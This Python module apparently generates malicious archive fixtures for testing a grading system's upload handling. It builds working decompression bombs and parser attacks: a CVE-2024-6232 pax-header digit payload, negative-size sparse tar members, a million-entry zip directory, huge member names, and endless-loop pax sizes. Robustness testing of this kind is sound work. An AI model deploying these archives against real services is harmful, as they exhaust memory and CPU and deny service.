"""The worst archives: each small to hand in, and made to cost whoever opens it far more."""

from __future__ import annotations

import gzip
import io
import json
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

BLOCK = tarfile.BLOCKSIZE
CODE = b"def mean(values):\n    return sum(values) / len(values)\n"


def _block(info: tarfile.TarInfo, size: int, data: bytes = b"") -> bytes:
    """A header that says `size`, and the data in whole blocks."""
    info.size = size
    return info.tobuf(tarfile.GNU_FORMAT) + data + bytes(-len(data) % BLOCK)


def _typed(name: str, kind: bytes) -> tarfile.TarInfo:
    info = tarfile.TarInfo(name)
    info.type = kind
    return info


def digits_in_a_pax_header() -> bytes:
    """A search over one run of digits that takes as long as its square (CVE-2024-6232): R1."""
    digits = b"1" * 400_000
    return gzip.compress(
        _block(_typed("x", tarfile.XHDTYPE), len(digits), digits) + _block(_typed("ex01_01.py", b"0"), 0)
    )


def _sparse(name: str, real: int) -> bytes:
    """A sparse member of no data that says how large it is."""
    header = bytearray(_block(_typed(name, tarfile.GNUTYPE_SPARSE), 0))
    header[483:495] = (b"\xff" if real < 0 else b"\x80") + real.to_bytes(11, "big", signed=True)
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header[:BLOCK])
    return bytes(header)


def sparse_members_of_less_than_nothing() -> bytes:
    """A negative size makes room in the budget, and each further header of a few bytes yields 20 MB: R2."""
    members = [_sparse("a.ipynb", -(1 << 60)), *(_sparse(f"b{i}.ipynb", 20 << 20) for i in range(900))]
    return gzip.compress(b"".join(members) + bytes(2 * BLOCK))


def a_million_empty_members() -> bytes:
    """Its table of contents is built before anybody counts: R9."""
    number = 1_000_000
    one = struct.pack("<4s4B4HL2L5H2L", b"PK\1\2", 20, 3, 20, 0, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"x"
    table = one * number
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, number & 0xFFFF, number & 0xFFFF, len(table), 0, 0)
    return table + end


def names_as_long_as_a_book() -> bytes:
    """Members that are refused, each with a name of 65,000 letters to be kept in the gradebook: R9."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for number in range(250):
            archive.writestr(zipfile.ZipInfo(f"{number}{'x' * 65_000}.py"), b"")
        archive.writestr("ex01_01.py", CODE)
    return buffer.getvalue()


def many_that_cannot_be_read() -> bytes:
    """A remark for every one of them."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for number in range(900):
            archive.writestr(f"{number}{'x' * 200}.py", bytes(300_000) if number % 300 == 0 else b"\xff\xfe\x00")
        archive.writestr("ex01_01.py", CODE)
    return buffer.getvalue()


def zeros_in_a_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        archive.writestr("ex01_01.py", bytes(64 << 20))
    return buffer.getvalue()


def zeros_in_a_stream() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    data = packer.compress(_block(_typed("ex01_01.py", b"0"), 8 << 30))
    return data + b"".join(packer.compress(bytes(1 << 20)) for _ in range(256)) + packer.flush()


def a_name_of_sixty_megabytes() -> bytes:
    name = b"x" * (60 << 20)
    return gzip.compress(_block(_typed("x", tarfile.GNUTYPE_LONGNAME), len(name), name), 9)


def a_list_of_lists() -> bytes:
    """A notebook of 20 MB that is ten million empty lists once it is read."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.ipynb", b"[" + b"[]," * 6_500_000 + b"[]]")
    return buffer.getvalue()


def a_question_for_help() -> bytes:
    """Blanks between a question for help and what makes it none."""
    source = f"a?{' ' * 100_000}x\n"
    cell = {"cell_type": "code", "source": source, "metadata": {}, "outputs": []}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("ex01_01.ipynb", json.dumps({"nbformat": 4, "cells": [cell]}))
    return buffer.getvalue()


def a_size_below_zero_in_a_pax_header() -> bytes:
    """The next member begins before this one: it is read again and again."""
    record = b"22 size=-1000000000000\n"
    record = b"%d%s" % (len(record), record[2:])
    member = _block(_typed("x", tarfile.XHDTYPE), len(record), record) + _block(_typed("ex01_01.py", b"0"), 0)
    return gzip.compress(member * 50)


BOMBS: dict[str, Callable[[], bytes]] = {
    "digits.tar.gz": digits_in_a_pax_header,
    "sparse.tar.gz": sparse_members_of_less_than_nothing,
    "million.zip": a_million_empty_members,
    "names.zip": names_as_long_as_a_book,
    "many.zip": many_that_cannot_be_read,
    "zeros.zip": zeros_in_a_zip,
    "stream.tar.gz": zeros_in_a_stream,
    "long.tar.gz": a_name_of_sixty_megabytes,
    "lists.zip": a_list_of_lists,
    "help.zip": a_question_for_help,
    "below.tar.gz": a_size_below_zero_in_a_pax_header,
}


def write_bombs(folder: Path) -> list[str]:
    for name, make in BOMBS.items():
        (folder / name).write_bytes(make())
    return list(BOMBS)
